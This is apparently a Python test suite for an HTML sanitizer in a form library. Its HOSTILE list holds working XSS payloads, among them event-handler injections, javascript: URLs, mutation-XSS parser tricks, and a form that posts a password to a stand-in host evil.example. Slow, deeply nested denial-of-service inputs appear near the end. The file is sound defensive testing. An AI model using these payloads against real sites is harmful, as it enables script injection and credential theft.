"""Rich text: what comes in is made safe, of one form, and read as words."""

from __future__ import annotations

import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dougong_form import FIELD_TYPES, Field, ValueRefused
from dougong_form.markup import LONGEST_HTML, SCHEMES, TAGS, html_of, safe_html, words_of
from dougong_model import RichText

RICH = FIELD_TYPES["rich_text"]
NOTE = Field(id="abcd1234", key="note", type=RICH, label={"en": "Note"})

HOSTILE = [
    "<script>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x53;cript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/apps/other" target="_self">x</a>',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    '<p class="ant-modal" id="root">x</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<x-element onclick=alert(1)>x</x-element>",
    "<b>x</b><i onmouseover=alert(1)>y</i><h1 onload=1>z</h1><div onclick=1>w</div>",
    '<td colspan="99999999">x</td><table><tr><td colspan="99999999" rowspan="-1" onclick=1>x</table>',
    "<ol start='1;alert(1)'><li>x</ol>",
    "<\x00script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" onclick="alert(1)" rel="opener">x</a>',
    "<textarea><script>alert(1)</script></textarea><xmp><b>x</xmp><plaintext><script>alert(1)",
]


class Seen(HTMLParser):
    """Refuses every tag and attribute outside the vocabulary."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert value is not None
            match tag, name:
                case "a", "href":
                    assert value.split(":")[0].lower() in SCHEMES
                case "a", "rel":
                    assert value == "noopener noreferrer nofollow"
                case "a", "target":
                    assert value == "_blank"
                case (("td" | "th"), ("colspan" | "rowspan")):
                    assert 0 <= int(value) <= 100
                case "ol", "start":
                    assert value.isdigit()
                case _:
                    raise AssertionError((tag, name))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def look(html: str) -> None:
    """Look at what was made safe, and make it safe again."""
    seen = Seen()
    seen.feed(html)
    seen.close()
    assert safe_html(html) == html


@pytest.mark.parametrize("html", HOSTILE)
def test_what_is_hostile_is_taken_out(html: str) -> None:
    look(safe_html(html))
    look(safe_html(f"<p>{html}</p><ul><li>{html}</ul>"))


PIECES = st.sampled_from(
    [
        *"<>&\"'/= \n\xa0x",
        *(f"<{tag}>" for tag in sorted(TAGS | {"b", "div", "h1", "svg", "math", "style", "script", "title"})),
        *(f"</{tag}>" for tag in sorted(TAGS | {"b", "div", "h1", "svg", "style", "script"})),
        "<!--",
        "-->",
        "<a href='https://x.example'>",
        "<a href='javascript:1'>",
        " onclick=1>",
        "<img src=x onerror=1>",
        "&lt;script&gt;",
        "<![CDATA[",
        "]]>",
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_whatever_comes_in_is_safe_and_stays_as_it_is(html: str) -> None:
    try:
        safe = safe_html(html)
    except ValueRefused:
        return
    look(safe)
    words_of(safe)


def test_other_names_of_the_same_become_one() -> None:
    found = safe_html("<h1>A</h1><div>b <b>c</b> <i>d</i> <del>e</del></div><h5>F</h5>")
    assert found == "<h2>A</h2><p>b <strong>c</strong> <em>d</em> <s>e</s></p><h3>F</h3>"


def test_what_a_word_processor_copies_keeps_its_words_and_marks() -> None:
    html = (
        "<html><head><style>p.MsoNormal {margin:0cm}</style><!--[if gte mso 9]><xml><w:View>Normal</w:View>"
        "</xml><![endif]--></head><body lang=ZH-CN><p class=MsoNormal style='mso-x:1'><b><span lang=EN-US>"
        "Terms<o:p></o:p></span></b></p><table class=MsoTable border=1><tr><td width=10 colspan=2>"
        "<p class=MsoNormal>合计</p></td></tr></table></body></html>"
    )
    found = safe_html(html)
    look(found)
    assert "<strong>Terms</strong>" in found
    assert words_of(found) == "Terms\n合计"
    assert "Normal" not in found


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>a<br>b</p><p></p><p>c</p>", "a\nb\nc"),
        ("<ul><li><p>one</p><ul><li><p>deep</p></li></ul></li><li><p>two</p></li></ul>", "one\ndeep\ntwo"),
        ("<table><tbody><tr><th><p>k</p></th><td><p>v</p></td></tr></tbody></table>", "k\nv"),
        ("<table><tbody><tr><th>k</th><td>v</td></tr></tbody></table>", "k\tv"),
        ("<pre><code>x\n  y</code></pre>", "x\n  y"),
        ("<p>a &lt;b&gt; &amp;amp;&nbsp;c</p>", "a <b> &amp; c"),
        ("<p> a   <strong> b</strong> c </p>", "a b c"),
        ("<p>Paid <strong>now</strong>, 款到发货。</p>", "Paid now, 款到发货。"),
    ],
)
def test_words(html: str, words: str) -> None:
    assert words_of(safe_html(html)) == words


def test_plain_words_become_paragraphs() -> None:
    assert html_of(" a < b & c\n第二行 ") == "<p>a &lt; b &amp; c</p><p>第二行</p>"
    value = RICH.parse(NOTE, html_of("a < b & c\n第二行"))
    assert value == "a < b & c\n第二行"


def test_marks_alone_are_a_difference_and_words_are_what_formulas_see() -> None:
    plain, bold = RICH.parse(NOTE, "<p>x</p>"), RICH.parse(NOTE, "<p><strong>x</strong></p>")
    assert isinstance(plain, RichText)
    assert plain == "x"
    assert bold == "x"
    assert plain != bold
    assert RICH.to_columns(NOTE, bold) == ("x", "<p><strong>x</strong></p>")
    assert RICH.from_columns(NOTE, RICH.to_columns(NOTE, bold)) == bold


@pytest.mark.parametrize("html", ["", "<p></p>", "<p> &nbsp; </p>", "<script>x</script>", "<table></table>"])
def test_without_words_it_is_blank(html: str) -> None:
    assert RICH.parse(NOTE, html) is None


def test_the_words_have_a_limit_and_the_html_another() -> None:
    short = Field(id="abcd1234", key="note", type=RICH, label={}, schema={"maxLength": 3})
    assert RICH.parse(short, "<h2><strong>abc</strong></h2>") == "abc"
    with pytest.raises(ValueRefused, match="3 characters"):
        RICH.parse(short, "<p>abcd</p>")
    with pytest.raises(ValueRefused, match="200000 characters"):
        RICH.parse(NOTE, "&" * LONGEST_HTML)


@pytest.mark.parametrize(
    "html",
    [
        "<ul>" * 40_000,
        "<blockquote>" * 15_000,
        "<b>" * 15 + "<p>" * 60_000,
        "<font size=1>" * 15 + "<p>x" * 40_000,
        "<!--" * 50_000,
        "<" * 200_000,
        "&lt;" * 40_000,
        "</p>" * 50_000,
        "<table>" * 199 + "<td>" * 10_000,
    ],
    ids=range(9),
)
def test_what_is_made_to_be_slow_is_not(html: str) -> None:
    began = time.monotonic()
    with suppress(ValueRefused):
        RICH.parse(NOTE, html)
    assert time.monotonic() - began < 3
